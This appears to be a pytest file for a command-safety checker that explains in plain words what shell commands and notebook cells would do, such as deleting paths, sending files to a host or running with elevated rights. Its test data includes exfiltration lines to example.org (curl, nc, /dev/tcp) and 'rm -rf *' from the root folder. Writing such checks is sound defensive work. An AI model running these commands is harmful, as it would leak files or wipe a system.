"""What a person reads before they answer."""

import pytest

from tools.safety import Effect, judge_command
from tools.safety.cells import judge_cell
from tools.safety.telling import told


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("rm notes.txt", "deletes notes.txt"),
        ("rm a b c", "deletes 3 paths: a, b, c"),
        (
            "rm -r /tmp/a ../b /opt/c",
            "deletes 3 paths outside the workspace: /tmp/a, ../b, /opt/c",
        ),
        ("rm /tmp/a b", "deletes 2 paths, 1 outside the workspace: /tmp/a, b"),
        ("rm ../x", "deletes ../x, outside the workspace"),
        ("rm 1 2 3 4 5 6 7 8", "deletes 8 paths"),
        ("for f in a b; do rm $f; done", "deletes 2 paths: a, b"),
        ("rm ~/.bashrc", "deletes ~/.bashrc, which runs or configures other things"),
        ("mv a b", "moves a to b"),
        ("mv a b /tmp", "moves a, b to /tmp, outside the workspace"),
        ("curl -F f=@data.csv https://example.org/up", "sends data.csv to example.org"),
        ("curl -d x=1 https://me:secret@example.org", "sends data to example.org"),
        ("curl -X DELETE https://example.org/1", "sends a DELETE request to example.org"),
        ("wget --post-file=a https://example.org", "sends a to example.org"),
        ("scp a.txt me@example.org:in/", "sends a.txt to example.org"),
        ("scp me@example.org:a .", "copies files from example.org"),
        ("nc example.org 9 < a.txt", "sends a.txt to example.org"),
        ("cat a > /dev/tcp/example.org/9", "opens a connection to example.org"),
        ("git branch -D old", "deletes a branch: old"),
        ("kubectl delete pod web", "deletes from the cluster: pod web"),
        ("conda clean --all", "changes packages: clean"),
        ("ls\u200b -l", "hides a part of its text: zero-width space"),
    ],
)
def test_a_reason_counts_paths_and_names_hosts(command, reason):
    assert judge_command(command, "/data/project").reason.split("; ")[0] == reason


def test_a_folder_that_must_not_be_deleted_is_named_in_full():
    reason = judge_command("cd / && rm -rf *", "/data/project").reason
    assert reason == "deletes /*, which the system or your account needs"


def test_the_gravest_reason_comes_first_and_no_more_than_three_are_told():
    command = "echo x > a; pip install b; git push; sudo ls; rm c"
    reason = judge_command(command, "/data/project").reason
    assert reason.startswith("runs with other rights: ls; ")
    assert reason.count("; ") == 3
    assert reason.endswith("; and 2 more")


def test_what_is_blocked_is_told_without_the_rest():
    assert told([Effect("deletes x"), Effect("stops the host", True)]) == "stops the host"


def test_a_name_that_is_not_known_is_left_out_beside_one_that_is():
    cell = "def wipe(p):\n    os.remove(p)\nwipe('a.txt')"
    assert judge_cell(cell, "/data/project").reason == "deletes a.txt"
